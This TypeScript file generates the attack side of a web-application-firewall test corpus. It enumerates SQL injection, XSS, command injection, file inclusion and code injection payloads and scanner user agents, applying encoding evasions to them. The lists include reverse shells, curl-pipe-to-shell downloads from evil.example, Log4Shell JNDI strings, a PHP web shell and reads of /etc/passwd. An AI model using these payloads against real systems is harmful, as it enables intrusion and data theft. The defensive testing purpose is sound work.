// Attack side of the WAF corpus (test/fixtures/waf/attacks.jsonl): classic payloads per
// class, each sent in several places (query, form, JSON, cookie, header, path) and through
// the evasions real tools use — URL / double URL / HTML-entity / JSON-unicode encoding,
// case mixing, inline comments and odd whitespace. Deterministic (seeded) so the
// generated file only changes when this list does. Regenerate: node bench/waf/make-corpus.ts
import { type CorpusRequest, type AttackClass, Rng, formRequest, jsonRequest, queryRequest, cookieRequest } from './corpus-shape.ts'

const SQLI = [
  "' OR '1'='1", "' OR 1=1--", "admin'--", "admin' #", '1 OR 1=1', "1' AND 1=1--", "' UNION SELECT username, password FROM users--",
  '-1 UNION ALL SELECT NULL,NULL,NULL--', '1; DROP TABLE users--', "'; EXEC xp_cmdshell('dir')--", '1 AND SLEEP(5)',
  "1' AND (SELECT 1 FROM (SELECT SLEEP(5))x)--", "'; WAITFOR DELAY '0:0:5'--", '1 AND BENCHMARK(5000000,MD5(1))',
  "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))--", "' AND UPDATEXML(1,CONCAT(0x7e,user()),1)--", "1' ORDER BY 5--",
  "1' GROUP BY 1,2,3--", "' HAVING 1=1--", "') OR ('1'='1", '")) OR (("a"="a', '1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64',
  "' OR 'x'='x", "1' AND '1'='2", "' OR username IS NOT NULL--", '1 UNION SELECT @@version,2', "' UNION SELECT table_name FROM information_schema.tables--",
  '1;SELECT pg_sleep(5)--', "' || (SELECT CASE WHEN (1=1) THEN 'a' ELSE 'b' END) || '", '1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))',
  "' AND 1=CONVERT(int,(SELECT @@version))--", "' OR 1 IN (SELECT @@version)--", "1' AND LOAD_FILE('/etc/passwd')--",
  "' INTO OUTFILE '/var/www/html/s.php'--", "admin' or '1'='1'/*", '1 or true', "' or ''='", '1) or sleep(5)#',
  "' AND (SELECT COUNT(*) FROM users) > 0 --", "'; INSERT INTO users VALUES ('hacker','pw')--", "'; UPDATE users SET role='admin' WHERE name='bob'--",
  "' AND ORD(MID((SELECT IFNULL(CAST(schema_name AS CHAR),0x20) FROM INFORMATION_SCHEMA.SCHEMATA LIMIT 0,1),1,1))>110--",
  "1' AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)--", "' OR EXISTS(SELECT * FROM users)--", '1 AND 1=(SELECT 1 FROM dual)', "x' AND email IS NULL; --",
  "1' and 1=2 union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()--+", '1 and 5>4', "' or 2>1 --"
]

const XSS = [
  '<script>alert(1)</script>', '<script>alert(document.cookie)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>',
  '<svg onload=alert(1)>', "<body onload=alert('XSS')>", '<iframe src="javascript:alert(1)"></iframe>', '<a href="javascript:alert(1)">click</a>',
  '"><script>alert(1)</script>', "'><img src=x onerror=prompt(1)>", '" onmouseover="alert(1)', "' autofocus onfocus=alert(1) x='", 'javascript:alert(1)',
  '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>', '<video><source onerror="alert(1)">', '<marquee onstart=alert(1)>',
  '<object data="javascript:alert(1)">', '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  "';alert(String.fromCharCode(88,83,83))//", '"-alert(1)-"', '</script><script>alert(1)</script>', '<img src="x" onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
  '<div style="background:url(javascript:alert(1))">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "{{constructor.constructor('alert(1)')()}}", '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<base href="javascript:alert(1)//">', '<form><button formaction=javascript:alert(1)>X</button></form>', '<isindex type=image src=1 onerror=alert(1)>',
  '<body onpageshow=alert(1)>', '<iframe srcdoc="<script>alert(1)</script>">', '<x onclick=alert(1)>click', '<svg><script>alert&#40;1&#41;</script>',
  'data:text/html,<script>alert(1)</script>', '<img src=x onerror=alert`1`>', '<img src=x:alert(alt) onerror=eval(src) alt=0>', '<audio src=x onerror=confirm(1)>',
  '\'-confirm(1)-\'', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">X</text></a></svg>', '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<img """><script>alert("XSS")</script>">'
]

const CMDI = [
  '; id', '| id', '|| whoami', '&& cat /etc/passwd', '; cat /etc/passwd', '`id`', '$(whoami)', '; uname -a', '| nc -e /bin/sh 10.0.0.1 4444',
  '; wget http://evil.example/x.sh -O /tmp/x.sh', '; curl http://evil.example/x | sh', '& ping -c 10 127.0.0.1 &', '; sleep 10', '|| ping -n 11 127.0.0.1',
  '& dir c:\\', '| type C:\\Windows\\win.ini', '& net user', '; ls -la /', ';${IFS}cat${IFS}/etc/passwd', ";c'a't /etc/passwd", ';c\\at /etc/passwd',
  ';/???/??t /???/p??s??', '\nid', '\nwhoami', '; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', '| powershell -enc SQBFAFgA', '&& echo vulnerable',
  '; echo $(id)', '127.0.0.1; id', '127.0.0.1 && whoami', '8.8.8.8 | uname -a', ';{cat,/etc/passwd}', "; python -c 'import os;os.system(\"id\")'",
  "| perl -e 'print 1'", '; rm -rf /tmp/x', '$(curl http://evil.example)', '; nslookup evil.example', '& certutil -urlcache -split -f http://evil.example/x.exe',
  '|id;', ';id;', 'a;id', 'x|whoami', 'file.txt; ls', 'google.com | ifconfig', 'test && sleep 5', '1;netstat -an', '|| ipconfig /all', '& systeminfo',
  'localhost`whoami`', '127.0.0.1%0acat /etc/passwd'
]

const LFI = [
  '../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '....//....//....//etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%252f..%252fetc%252fpasswd', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '/etc/passwd', '/etc/shadow', '../../../../etc/passwd%00', '../../../../etc/passwd%00.jpg',
  'php://filter/convert.base64-encode/resource=index.php', 'php://input', 'file:///etc/passwd', 'phar://./uploads/x.jpg/shell', 'zip://shell.jpg%23payload.php',
  '/proc/self/environ', '../../../../proc/self/cmdline', 'C:\\boot.ini', '..\\..\\..\\..\\boot.ini', '../../../var/log/nginx/access.log', '....\\/....\\/etc/passwd',
  '..;/..;/etc/passwd', '%252e%252e%252fetc%252fpasswd', 'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=',
  '../../../../../../windows/system32/drivers/etc/hosts', '../../WEB-INF/web.xml', '../../../../root/.ssh/id_rsa', '../../.env', '..%5c..%5cwindows%5cwin.ini',
  '%uff0e%uff0e/%uff0e%uff0e/etc/passwd', 'expect://id', '/var/www/../../etc/passwd', '..././..././..././etc/passwd', 'file:///c:/windows/win.ini',
  '../../../../../etc/hosts', '..%c0%af..%c0%afetc%c0%afpasswd', 'php://filter/read=string.rot13/resource=config.php'
]

const LFI_PATHS = ['/static/../../../../etc/passwd', '/download/..%2f..%2f..%2fetc%2fpasswd', '/.git/config', '/.env', '/images/%2e%2e/%2e%2e/%2e%2e/etc/shadow',
  '/WEB-INF/web.xml', '/files/..%252f..%252fetc/passwd', '/.htpasswd', '/app/..;/..;/etc/passwd', '/.aws/credentials']

const RFI = [
  'http://evil.example/shell.txt?', 'http://evil.example/shell.txt', 'https://attacker.example/c99.php?', 'http://192.168.1.100/backdoor.php', 'ftp://evil.example/shell.php',
  'http://evil.example/shell.txt%00', 'hTtP://evil.example/x.txt?', '\\\\evil.example\\share\\shell.php', 'http://evil.example/?', 'https://pastebin.com/raw/abc123?',
  'http://evil.example/shell.txt#', 'http:%2f%2fevil.example%2fshell.txt', 'http://10.0.0.5:8080/x.php?cmd=id', 'http://evil.example/inc.php??', 'http://127.0.0.1/phpinfo.php',
  'gopher://127.0.0.1:6379/_INFO', 'https://raw.githubusercontent.com/x/y/master/r57.php', 'http://evil.example/r.txt?&cmd=ls', 'ftp://anonymous@10.0.0.9/pub/x.txt',
  'https://evil.example/payload.inc', 'HTTPS://EVIL.EXAMPLE/SHELL.TXT?', 'http://evil.example/webshell.php?', 'http://1.2.3.4/a.php?', 'dict://127.0.0.1:11211/stat'
]
const RFI_PARAMS = ['page', 'file', 'include', 'inc', 'template', 'path', 'doc', 'lang', 'module', 'url', 'src', 'load']

const CODE = [
  "<?php system($_GET['cmd']); ?>", '${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://evil.example/x}', '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}',
  "{{''.__class__.__mro__[1].__subclasses__()}}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
  "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
  'O:8:"stdClass":1:{s:4:"test";s:3:"abc";}', "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))", "require('child_process').exec('id')", 'phpinfo()',
  "<?= `id` ?>", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/x", "{{self.__init__.__globals__.__builtins__}}",
  "system('cat /etc/passwd');", "new java.lang.ProcessBuilder('id').start()", "process.mainModule.require('child_process').execSync('id')", "<?php echo shell_exec($_GET['c']); ?>"
]

const SCANNERS = [
  'sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'Nessus SOAP', 'OpenVAS-VT 21.4', 'Mozilla/5.0 (Windows NT 10.0) Acunetix-Product', 'Mozilla/5.0 (compatible; Netsparker)', 'w3af.org', 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)',
  'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 'gobuster/3.6', 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Mozilla/5.0 zgrab/0.x', 'WhatWeb/0.5.5', 'Havij', 'ZmEu', 'Fuzz Faster U Fool v2.1.0', 'Wfuzz/3.1.0',
  'commix/v3.8-dev (https://commixproject.com)', 'Arachni/v1.5.1', 'Mozilla/5.0 SF/2.10b skipfish', 'feroxbuster/2.10.1', 'Mozilla/5.0 (dirsearch)', 'JoomScan', 'Morfeus Fucking Scanner',
  'sqlninja 0.2.6', 'Mozilla/5.0 (compatible; Qualys)', 'Mozilla/5.0 (X11) OWASP ZAP 2.14'
]

const SQL_PARAMS = ['id', 'q', 'user', 'search', 'cat', 'item', 'username', 'sort']
const GENERIC_PARAMS = ['q', 'name', 'comment', 'msg', 'search', 'title', 'redirect', 'host', 'ip', 'cmd', 'file', 'path']

function encodeFull (s: string): string { return [...Buffer.from(s, 'latin1')].map(b => '%' + b.toString(16).padStart(2, '0').toUpperCase()).join('') }
function htmlEntities (s: string): string { return s.replace(/[<>"'()]/g, c => `&#x${c.charCodeAt(0).toString(16)};`) }
function mixCase (s: string, rng: Rng): string { return [...s].map(c => rng.next() < 0.5 ? c.toUpperCase() : c.toLowerCase()).join('') }

type Variant = (s: string, rng: Rng) => { value: string, preEncoded: boolean }
const plain: Variant = s => ({ value: s, preEncoded: false })
const url: Variant = s => ({ value: encodeFull(s), preEncoded: true })
const doubleUrl: Variant = s => ({ value: encodeFull(s).replace(/%/g, '%25'), preEncoded: true })
const entities: Variant = s => ({ value: htmlEntities(s), preEncoded: false })
const caseMix: Variant = (s, rng) => ({ value: mixCase(s, rng), preEncoded: false })
const sqlComments: Variant = s => ({ value: s.replace(/ /g, '/**/'), preEncoded: false })
const oddSpace: Variant = s => ({ value: encodeURIComponent(s).replace(/%20/g, () => '%0A').replace(/%0A/, '%09'), preEncoded: true })
const plusSpace: Variant = s => ({ value: encodeURIComponent(s).replace(/%20/g, '+'), preEncoded: true })

function place (cls: AttackClass, payload: string, params: string[], variant: Variant, rng: Rng): CorpusRequest {
  const { value, preEncoded } = variant(payload, rng)
  const name = rng.pick(params)
  const where = rng.next()
  if (preEncoded || where < 0.45) return queryRequest(cls, rng.pick(['/search', '/products', '/index.php', '/api/items', '/view']), name, value, preEncoded)
  if (where < 0.7) return formRequest(cls, rng.pick(['/login', '/comment', '/contact', '/profile']), name, value)
  if (where < 0.9) return jsonRequest(cls, rng.pick(['/api/v1/users', '/api/orders', '/api/search']), { [name]: value, requestId: 7 })
  return cookieRequest(cls, '/account', name, value)
}

export function attackCorpus (): CorpusRequest[] {
  const rng = new Rng(0x5eed)
  const out: CorpusRequest[] = []
  const sqlVariants = [plain, url, doubleUrl, caseMix, sqlComments, oddSpace, plusSpace]
  SQLI.forEach((p, i) => {
    out.push(place('sqli', p, SQL_PARAMS, plain, rng))
    out.push(place('sqli', p, SQL_PARAMS, sqlVariants[(i % (sqlVariants.length - 1)) + 1]!, rng))
  })
  out.push({ ...queryRequest('sqli', '/product', 'id', '1', false), headers: { 'user-agent': "Mozilla/5.0' AND SLEEP(5)--", referer: "https://shop.example/?id=1' OR '1'='1" } })
  out.push({ ...queryRequest('sqli', '/product', 'id', '1', false), path: '/product/1%27%20OR%20%271%27=%271' })
  out.push({ ...queryRequest('sqli', '/search', 'q', '%2F*!50000UNION*%2F%2F*!50000SELECT*%2F1%2C2%2C3', true) })
  out.push({ ...queryRequest('sqli', '/search', 'q', 'UN%2F**%2FION%20SEL%2F**%2FECT%201%2C2', true) })
  // Numbers glued to keywords (scientific / hex notation): the lexer splits 1e1UNION into 1e1 and UNION
  out.push(queryRequest('sqli', '/item', 'id', '1e1UNION SELECT null,version()--', false))
  out.push(queryRequest('sqli', '/item', 'id', '1.e1or 1.e1=1.e1', false))
  out.push(cookieRequest('sqli', '/account', 'uid', '0x1fOR 1=1'))
  const xssVariants = [plain, url, doubleUrl, entities, caseMix, plusSpace]
  XSS.forEach((p, i) => {
    out.push(place('xss', p, GENERIC_PARAMS, plain, rng))
    out.push(place('xss', p, GENERIC_PARAMS, xssVariants[(i % (xssVariants.length - 1)) + 1]!, rng))
  })
  out.push({ ...jsonRequest('xss', '/api/comments', {}), body: '{"text":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}' })
  out.push({ ...queryRequest('xss', '/', 'x', '1', false), headers: { referer: 'https://a.example/?q=<script>alert(1)</script>' } })
  const cmdVariants = [plain, url, doubleUrl, plusSpace]
  CMDI.forEach((p, i) => {
    out.push(place('cmdi', p, ['host', 'ip', 'cmd', 'file', 'domain', 'target'], plain, rng))
    out.push(place('cmdi', p, ['host', 'ip', 'cmd', 'file', 'domain', 'target'], cmdVariants[(i % (cmdVariants.length - 1)) + 1]!, rng))
  })
  out.push({ ...queryRequest('cmdi', '/cgi-bin/status', 'x', '1', false), headers: { 'user-agent': "() { :; }; /bin/bash -c 'cat /etc/passwd'" } })
  const lfiVariants = [plain, url, doubleUrl]
  LFI.forEach((p, i) => {
    out.push(place('lfi', p, ['file', 'page', 'path', 'doc', 'template', 'img'], plain, rng))
    out.push(place('lfi', p, ['file', 'page', 'path', 'doc', 'template', 'img'], lfiVariants[(i % (lfiVariants.length - 1)) + 1]!, rng))
  })
  for (const path of LFI_PATHS) out.push({ method: 'GET', path, headers: {}, class: 'lfi' })
  RFI.forEach((p, i) => {
    out.push(place('rfi', p, RFI_PARAMS, plain, rng))
    out.push(place('rfi', p, RFI_PARAMS, i % 2 === 0 ? url : caseMix, rng))
  })
  CODE.forEach(p => { out.push(place('code', p, GENERIC_PARAMS, plain, rng)); out.push(place('code', p, GENERIC_PARAMS, url, rng)) })
  out.push({ ...queryRequest('code', '/', 'x', '1', false), headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } })
  SCANNERS.forEach(ua => {
    out.push({ method: 'GET', path: rng.pick(['/', '/admin/', '/wp-login.php', '/index.php?id=1', '/robots.txt']), headers: { 'user-agent': ua }, class: 'scanner' })
    out.push({ method: 'GET', path: rng.pick(['/login', '/search?q=test', '/phpmyadmin/', '/.well-known/security.txt']), headers: { 'user-agent': ua }, class: 'scanner' })
  })
  return out
}
